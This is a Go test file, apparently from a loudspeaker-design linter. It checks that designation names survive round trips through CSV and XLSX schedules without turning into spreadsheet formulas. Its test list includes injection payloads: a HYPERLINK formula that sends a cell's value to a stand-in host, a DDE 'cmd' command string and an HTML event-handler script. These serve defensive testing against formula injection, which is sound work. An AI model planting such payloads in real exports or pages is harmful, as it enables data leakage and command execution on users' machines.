package transfer_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"loudlint/linter/analysis"
	"loudlint/linter/schedule"
	"loudlint/linter/sheet"
	"loudlint/linter/transfer"
)

// awkwardNames are names that a spreadsheet program, a browser or a terminal
// could take for something else.
var awkwardNames = []string{
	"=1+1", "+41 22", "-12 dB", "@sum", "'quoted", "'=both", "=HYPERLINK(\"http://invalid.example/?\"&A1;\"x\")", "=cmd|' /C x'!A0", "\uff1d1+1",
	"<b onmouseover=alert(1)>", "Halle 🔔", "قاعة", "1e5", "007", "true", "2026-05-04", "half, whole; \"third\"",
}

// TestAwkwardNames carries such names from a table to text, to a design, to a
// schedule of each form and back: nothing becomes a formula and nothing is lost.
func TestAwkwardNames(t *testing.T) {
	t.Parallel()
	rows := [][]string{{"Line", "Amplifier", "Output", "Designation", "Tap (W)", "Leg (m)", "Cable"}}
	for _, name := range awkwardNames {
		rows = append(rows, []string{"Line", "Rack", "100 V", name, "6", "5", "2 x 1.5 mm2"})
	}
	var table bytes.Buffer
	w := csv.NewWriter(&table)
	if err := w.WriteAll(rows); err != nil {
		t.Fatal(err)
	}
	first := convert(t, table.Bytes(), transfer.Options{})
	design := read(t, "made", fileOf(first.Text))
	loudspeakers := schedule.Make(analysis.Analyse(design, 1), schedule.Loudspeakers, schedule.Usual())
	var text, book bytes.Buffer
	if err := sheet.WriteCSV(&text, loudspeakers); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(text.Bytes(), []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, record := range records {
		for _, cell := range record {
			if strings.ContainsAny(cell[:min(len(cell), 1)], "=+@\t\r") || strings.HasPrefix(cell, "-") {
				t.Errorf("CSV has a cell that can be taken for a formula: %q", cell)
			}
		}
	}
	for i, name := range awkwardNames {
		if !strings.Contains(strings.ToValidUTF8(text.String(), ""), strings.ReplaceAll(name, `"`, `""`)) {
			t.Errorf("name %d is lost: %q", i, name)
		}
	}
	if err := sheet.WriteXLSX(&book, []*schedule.Table{loudspeakers}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(book.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range f.GetSheetList() {
		cells, err := f.GetRows(name)
		if err != nil {
			t.Fatal(err)
		}
		for r := range cells {
			for c := range cells[r] {
				at, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if formula, _ := f.GetCellFormula(name, at); formula != "" {
					t.Errorf("XLSX has a formula in %s: %q", at, formula)
				}
			}
		}
	}
	for form, data := range map[string][]byte{"CSV": text.Bytes(), "XLSX": book.Bytes()} {
		if diff := cmp.Diff(first.Text, convert(t, data, transfer.Options{}).Text); diff != "" {
			t.Errorf("through %s another text comes back (-want +got)\n%s", form, diff)
		}
	}
}
